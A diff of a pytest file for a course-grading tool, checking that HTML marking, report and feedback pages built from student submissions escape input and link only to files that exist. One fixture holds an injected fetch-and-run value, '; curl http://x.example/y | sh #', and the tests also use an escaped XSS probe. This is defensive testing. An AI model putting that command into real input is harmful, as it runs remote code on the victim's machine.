@@ -3,12 +3,12 @@
 import json
 import re
 from datetime import UTC, datetime
-from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 from command_line import call_lab
 from example_class import copy_run
+from html_page import Page, check_page
 
 from measuretwice.grading.results import marking_minutes
 from measuretwice.grading.rubric import read_key
@@ -23,42 +23,16 @@ RUN = next(iter(sorted((ROOT / "sample-data/01-mathis/case-05-broken").glob("tri
 EVIL = "; curl http://x.example/y | sh #"
 
 
-class Page(HTMLParser):
-    def __init__(self, path: Path) -> None:
-        super().__init__()
-        self.path = path
-        self.text = path.read_text(encoding="utf-8")
-        self.tags: list[tuple[str, dict[str, str | None]]] = []
-        self.open: list[str] = []
-        self.feed(self.text)
-        self.close()
-        assert self.open == []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append((tag, dict(attrs)))
-        if tag not in {"meta", "br", "hr"}:
-            self.open.append(tag)
-
-    def handle_endtag(self, tag: str) -> None:
-        assert self.open.pop() == tag
-
-    @property
-    def links(self) -> list[str]:
-        return [str(attrs["href"]) for tag, attrs in self.tags if tag == "a"]
-
-    def is_safe(self) -> None:
-        """No script, nothing fetched, every link leads to something that is there."""
-        assert not {"script", "img", "link", "iframe", "form", "object"} & {t for t, _ in self.tags}
-        assert "\x1b" not in self.text
-        assert "src=" not in self.text
-        ids = [attrs["id"] for _, attrs in self.tags if "id" in attrs]
-        assert len(ids) == len(set(ids))
-        for link in self.links:
-            path, _, place = link.partition("#")
-            target = (self.path.parent / path) if path else self.path
-            assert target.exists(), link
-            if place:
-                assert f'id="{place}"' in target.read_text(encoding="utf-8")
+def check_file(path: Path) -> Page:
+    """Check a page, and that each of its links leads to something that is there."""
+    page = check_page(path.read_text(encoding="utf-8"))
+    for link in page.links:
+        name, _, anchor = link.partition("#")
+        target = (path.parent / name) if name else path
+        assert target.exists(), link
+        if anchor:
+            assert f'id="{anchor}"' in target.read_text(encoding="utf-8")
+    return page
 
 
 @pytest.fixture(scope="module")
@@ -90,8 +64,7 @@ def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 def test_the_page_to_mark_from(graded: Path) -> None:
-    page = Page(graded / "marking/s1-lovelaceada.html")
-    page.is_safe()
+    page = check_file(graded / "marking/s1-lovelaceada.html")
     text = page.text
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
     # The answer's own line of ss is marked, with the file that it stands in; so is its number.
@@ -114,12 +87,11 @@ def test_no_command_of_a_student_is_one_to_run(graded: Path) -> None:
     commands = re.findall(r"<code>(\./lab run[^<]*)</code>", text)
     assert commands == ["./lab run mathis --trial 9 --pitfall mtu --stage broken --seed 1"]
     assert EVIL.replace("&", "&amp;") not in (graded / "reports/s1-lovelaceada.html").read_text()
-    Page(graded / "reports/s1-lovelaceada.html").is_safe()
+    check_file(graded / "reports/s1-lovelaceada.html")
 
 
 def test_nobody_elses_page(graded: Path) -> None:
-    page = Page(graded / "marking/s2-ibobi.html")
-    page.is_safe()
+    page = check_file(graded / "marking/s2-ibobi.html")
     assert "&lt;i&gt;Bob&lt;/i&gt;" in page.text
     assert not (graded / "reports/s2-ibobi.html").exists()
     assert not (graded / "reports/s1-lovelaceada.html").is_symlink()
@@ -127,8 +99,7 @@ def test_nobody_elses_page(graded: Path) -> None:
 
 def test_what_goes_back_tells_no_cause_and_nobody_elses_name(graded: Path) -> None:
     """It stands under the name by which Canvas takes it, and holds neither key nor finding."""
-    page = Page(graded / "feedback/lovelaceada_LATE_101_9_feedback.html")
-    page.is_safe()
+    page = check_file(graded / "feedback/lovelaceada_LATE_101_9_feedback.html")
     bare = re.sub(r"(?s)<style>.*?</style>", "", page.text)
     lab = load_lab(ROOT, "mathis")
     without_answer = re.sub(r'(?s)<div class="answer">.*?</div>', "", bare)
